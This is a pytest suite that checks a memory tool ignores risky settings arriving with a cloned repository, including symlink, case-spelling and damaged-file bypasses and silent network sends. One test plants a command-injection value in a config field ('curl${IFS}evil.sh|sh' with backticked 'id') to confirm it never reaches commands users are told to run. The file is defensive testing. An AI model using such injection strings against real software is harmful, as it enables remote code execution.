"""What acts on the machine or the network, or costs, is not taken from settings that come with a repository."""

from __future__ import annotations

import json
import stat
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from tests.attacks.hostile import LOCAL, SETTINGS, Hostile, ask, clone_into, hostile_of, remember, start_session
from tests.conftest import World, until

BOLD = {
    "auto_commit": True,
    "memory_embedding_provider": "ollama",
    "memory_embedding_model": "theirs",
    "memory_keyword_provider": "ollama",
    "memory_root": "src/memories",
    "triage.thresholds.decision": 0.0,
    "triage.parallel.default_model": "opus",
    "triage.parallel.verification_model": "opus",
    "triage.parallel.category_models.runbook": "opus",
}
MODEST = {
    "auto_commit": False,
    "memory_embedding_provider": "local",
    "memory_keyword_provider": "rules",
    "memory_root": ".claude/notes",
    "triage.thresholds.decision": 0.9,
    "triage.parallel.verification_model": "haiku",
    "retrieval.max_inject": 2,
}


@pytest.fixture
def hostile(world: World) -> Hostile:
    return hostile_of(world)


def nested(values: dict[str, Any]) -> str:
    document: dict[str, Any] = {}
    for name, value in values.items():
        *levels, last = name.split(".")
        place = document
        for level in levels:
            place = place.setdefault(level, {})
        place[last] = value
    return json.dumps(document)


def config(world: World, **variables: str) -> tuple[dict[str, dict[str, Any]], list[str]]:
    told = json.loads(world.run("config", "--json", **variables).stdout)
    return {row["key"]: row for row in told["settings"]}, told["problems"]


def assert_defaults(world: World) -> list[str]:
    settings, problems = config(world)
    for name in BOLD:
        assert settings[name]["value"] == settings[name]["default"], name
        assert settings[name]["source"] == "default", name
    return problems


def test_bold_settings_of_a_clone_are_passed_over_and_said(world: World, hostile: Hostile) -> None:
    hostile.write(SETTINGS, nested(BOLD))
    clone_into(world, hostile)
    problems = assert_defaults(world)
    assert len(problems) == len(BOLD)
    assert all("came with the repository" in problem for problem in problems)
    [sentence] = [problem for problem in problems if "auto_commit" in problem]
    assert "run `recollect config set auto_commit true` if you want it" in sentence
    start_session(world)
    # The log is written after the answer, by a process that nobody waits for.
    until(lambda: "auto_commit true came with the repository" in logged(world))
    start_session(world)
    assert logged(world).count("auto_commit true came") == 1, "once a day"


def logged(world: World) -> str:
    path = world.store / "recollect.log"
    return path.read_text(encoding="utf-8") if path.exists() else ""


def test_bold_settings_in_a_tracked_local_file_are_passed_over(world: World, hostile: Hostile) -> None:
    hostile.write(LOCAL, "".join(f"{name}: {json.dumps(value).strip(chr(34))}\n" for name, value in BOLD.items()))
    clone_into(world, hostile)
    assert len(assert_defaults(world)) == len(BOLD)


@pytest.mark.parametrize("form", ['"{}"', "'{}'", "{}  # harmless", "{}\r"])
def test_quotes_and_comments_make_no_bold_setting_modest(world: World, hostile: Hostile, form: str) -> None:
    texts = {name: json.dumps(value).strip(chr(34)) for name, value in BOLD.items()} | {"auto_commit": "Yes"}
    hostile.write(LOCAL, "".join(f"{name}: {form.format(text)}\n" for name, text in texts.items()))
    clone_into(world, hostile)
    assert len(assert_defaults(world)) == len(BOLD)


def test_modest_settings_of_a_clone_count(world: World, hostile: Hostile) -> None:
    """A team may share what does no harm."""
    hostile.write(SETTINGS, nested(MODEST))
    clone_into(world, hostile)
    settings, problems = config(world)
    assert problems == []
    assert {name: settings[name]["value"] for name in MODEST} == MODEST


def test_settings_of_an_unpacked_archive_are_nobodys_word(world: World) -> None:
    path = world.project / SETTINGS
    path.parent.mkdir(parents=True)
    path.write_text(nested(BOLD), encoding="utf-8")
    assert all("no git repository" in problem for problem in assert_defaults(world))


def test_files_that_git_does_not_track_are_the_users_own(world: World, hostile: Hostile) -> None:
    hostile.write("README.md", "x")
    clone_into(world, hostile)
    path = world.project / SETTINGS
    path.parent.mkdir(parents=True)
    path.write_text(nested(BOLD), encoding="utf-8")
    settings, problems = config(world)
    assert problems == []
    assert {name: settings[name]["value"] for name in BOLD} == BOLD


@pytest.mark.parametrize("name", [".CLAUDE/memory/memory-config.json", ".claude/Memory/memory-config.json"])
def test_another_spelling_of_a_tracked_file_is_no_way_around(world: World, hostile: Hostile, name: str) -> None:
    """Where case makes no difference, the file that git has checked out is the one that is read."""
    hostile.write(name, nested(BOLD))
    clone_into(world, hostile)
    path = world.project / SETTINGS
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(nested(BOLD), encoding="utf-8")
    assert_defaults(world)


@pytest.mark.parametrize(("link", "target"), [(".claude", "x"), (".claude/memory", "../x/memory")])
def test_a_tracked_link_to_the_settings_is_no_way_around(
    world: World, hostile: Hostile, link: str, target: str
) -> None:
    hostile.write("x/memory/memory-config.json", nested(BOLD))
    hostile.link(link, target)
    clone_into(world, hostile)
    assert_defaults(world)


@pytest.mark.parametrize("target", [".git/index", "caf\u00e9x/notes.md", "\u212afolder/notes.md"])
def test_no_link_to_what_git_does_not_list_is_a_way_around(world: World, hostile: Hostile, target: str) -> None:
    lines = "x\nauto_commit: true\nmemory_embedding_provider: ollama\nz"
    hostile.write(lines, "a name that git's index holds as lines")
    if not target.startswith(".git"):
        hostile.write(target, lines)
    hostile.link(LOCAL, f"../{target}")
    clone_into(world, hostile)
    assert_defaults(world)


def test_a_value_of_others_is_in_no_command_that_people_are_told_to_run(world: World, hostile: Hostile) -> None:
    hostile.write(SETTINGS, json.dumps({"memory_embedding_model": "x;curl${IFS}evil.sh|sh;`id`"}))
    clone_into(world, hostile)
    shown = world.run("config").stdout + world.run("config").stderr + world.run("status").stdout
    assert "config set memory_embedding_model VALUE" in shown
    assert "curl" not in shown.partition("recollect config set")[2].partition("`")[0]


def test_what_the_user_has_said_counts_for_this_value_and_this_project(world: World, hostile: Hostile) -> None:
    hostile.write(SETTINGS, nested({"auto_commit": True, "triage.thresholds.decision": 0.1}))
    clone_into(world, hostile)
    done = world.run("config", "set", "auto_commit", "true")
    assert done.returncode == 0
    assert "it is true (memory-config.json)" in done.stdout
    assert remember(world).returncode == 0
    assert "memory:" in hostile.git("log", "--format=%s", cwd=world.project)
    settings, _ = config(world)
    assert settings["triage.thresholds.decision"]["source"] == "default", "only what was said"

    consents = world.store / ".consents"
    assert stat.S_IMODE(consents.stat().st_mode) == 0o600
    other = World(world.home, world.home / "other", world.store)
    hostile.git("clone", "-q", world.project, other.project)
    assert config(other)[0]["auto_commit"]["value"] is False

    world.run("config", "unset", "auto_commit")
    (world.project / SETTINGS).write_text(nested({"auto_commit": True}), encoding="utf-8")  # as a pull would
    assert config(world)[0]["auto_commit"]["value"] is False


def test_a_pull_cannot_replace_the_value_that_the_user_has_agreed_to(world: World, hostile: Hostile) -> None:
    hostile.write(SETTINGS, "{}")
    clone_into(world, hostile)
    assert world.run("config", "set", "memory_root", "notes/memories").returncode == 0
    assert config(world)[0]["memory_root"]["value"] == "notes/memories"
    (world.project / SETTINGS).write_text(nested({"memory_root": "src"}), encoding="utf-8")
    assert config(world)[0]["memory_root"]["value"] == ".claude/memory"


@pytest.mark.parametrize("content", [b"\xff\x00", b"[[[[\n", b'["a"]\n[1, 2, 3]\n{"a": 1}\n', b"\n" * 1000])
def test_a_damaged_file_of_consents_agrees_to_nothing_and_breaks_nothing(
    world: World, hostile: Hostile, content: bytes
) -> None:
    hostile.write(SETTINGS, nested({"auto_commit": True}))
    clone_into(world, hostile)
    world.store.mkdir()
    (world.store / ".consents").write_bytes(content)
    assert config(world)[0]["auto_commit"]["value"] is False
    assert world.run("config", "set", "auto_commit", "true").returncode == 0
    assert config(world)[0]["auto_commit"]["value"] is True


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server that stands for one to which text would be sent; what it was asked for."""
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def _answer(self) -> None:
            heard.append(self.path)
            self.send_error(500)

        do_GET = do_POST = _answer

        def log_message(self, *_: object) -> None:  # pyright: ignore[reportIncompatibleMethodOverride]
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", heard
        server.shutdown()


@pytest.mark.parametrize("provider", ["ollama", "openai"])
def test_settings_of_a_clone_send_no_text_anywhere(
    semantic_world: World, listener: tuple[str, list[str]], provider: str
) -> None:
    """Not even to a provider that the user has set up for other projects."""
    world, (address, heard) = semantic_world, listener
    hostile = hostile_of(world)
    hostile.write(SETTINGS, nested({"memory_embedding_provider": provider, "memory_keyword_provider": "rules"}))
    hostile.write("docs/knowledge-bank/patterns.md", "### Pattern: Retry\nRetry what may fail.\n")
    clone_into(world, hostile)
    variables = {"OLLAMA_HOST": address, "OPENAI_BASE_URL": address, "OPENAI_API_KEY": "k"}
    entry = json.dumps({"name": "Retry", "description": "Retry what may fail.", "category": "patterns"})
    start_session(world, **variables)
    ask(world, "how do I retry what may fail", **variables)
    world.run("search", "retry", **variables)
    world.run("upsert", "--entry-json", entry, **variables)
    assert heard == []


def test_a_threshold_of_a_clone_forces_no_stop(world: World, hostile: Hostile, tmp_path: Path) -> None:
    names = ("decision", "runbook", "constraint", "tech_debt", "preference", "session_summary")
    hostile.write(SETTINGS, nested({f"triage.thresholds.{name}": 0.0 for name in names}))
    clone_into(world, hostile)
    transcript = tmp_path / "session.jsonl"
    said = {"type": "user", "message": {"role": "user", "content": "Please list the files of this folder."}}
    answered = {"type": "assistant", "message": {"role": "assistant", "content": [{"type": "text", "text": "Done."}]}}
    transcript.write_text("\n".join(map(json.dumps, [said, answered])) + "\n", encoding="utf-8")
    event = {
        "session_id": "s1",
        "cwd": str(world.project),
        "transcript_path": str(transcript),
        "stop_hook_active": False,
    }
    done = world.run_hook("stop", event)
    assert done.returncode == 0
    assert "block" not in done.stdout
